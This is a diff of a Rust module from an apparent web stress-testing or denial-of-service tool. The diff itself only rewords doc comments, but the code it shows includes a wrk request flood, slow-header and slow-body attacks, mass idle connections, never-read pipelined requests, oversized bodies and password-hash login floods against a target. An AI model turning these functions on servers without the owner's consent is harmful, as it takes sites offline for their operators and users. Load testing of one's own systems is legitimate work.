@@ -1,4 +1,4 @@
-//! What is done to the pages.
+//! Attacks on the web pages.
 
 use super::raid::Raid;
 use smol::Timer;
@@ -6,18 +6,18 @@ use smol::io::{AsyncReadExt, AsyncWriteExt};
 use std::process::Command;
 use std::time::Duration;
 
-/// More than the pages hold.
+/// Number of connections; more than the web role accepts.
 const MANY: usize = 1_500;
 const BYTE_EACH: Duration = Duration::from_millis(500);
 const FORM: &str = "Content-Type: application/x-www-form-urlencoded\r\nSec-Fetch-Site: same-origin\r\n";
 
-/// As many pages a second as there are.
+/// Requests as many pages per second as possible.
 pub fn wrk(raid: &Raid, connections: usize) {
     let seconds = format!("{}s", raid.time.as_secs());
     let url = format!("http://{}/login", raid.target);
     let output =
         Command::new("wrk").args(["-t", "2", "-c", &connections.to_string(), "-d", &seconds, &url]).output();
-    let Ok(output) = output else { return raid.say("there is no wrk".into()) };
+    let Ok(output) = output else { return raid.say("wrk is not installed".into()) };
     let text = String::from_utf8_lossy(&output.stdout).into_owned();
     let field = |name: &str| {
         text.lines().find_map(|line| line.trim().strip_prefix(name)).unwrap_or("0").trim().to_string()
@@ -31,12 +31,12 @@ pub fn wrk(raid: &Raid, connections: usize) {
     ));
 }
 
-/// A head that never ends, a byte at a time.
+/// Sends a request head that never ends, one byte at a time.
 pub fn slow_heads(raid: &Raid) {
     slowly(raid, b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ");
 }
 
-/// A form that never arrives.
+/// Sends a form that never completes.
 pub fn slow_bodies(raid: &Raid) {
     let head =
         format!("POST /login HTTP/1.1\r\nHost: {}\r\n{FORM}Content-Length: 60000\r\n\r\n", raid.target);
@@ -57,7 +57,7 @@ fn slowly(raid: &Raid, begin: &[u8]) {
     });
 }
 
-/// Connections that say nothing.
+/// Opens connections and sends nothing.
 pub fn idle(raid: &Raid) {
     raid.each(MANY, async |number| {
         while raid.goes_on() {
@@ -68,7 +68,7 @@ pub fn idle(raid: &Raid) {
     });
 }
 
-/// Asks for pages, one after the other, and takes none.
+/// Requests pages, one after the other, and reads none.
 pub fn never_reading(raid: &Raid) {
     let ask = format!("GET /about HTTP/1.1\r\nHost: {}\r\n\r\n", raid.target).repeat(64);
     raid.each(MANY, async |number| {
@@ -99,7 +99,7 @@ pub fn large_bodies(raid: &Raid) {
     });
 }
 
-/// Each costs a server a hash.
+/// Sends logins, each of which costs a server a password hash.
 pub fn log_ins(raid: &Raid) {
     raid.each(64, async |number| {
         while raid.goes_on() {
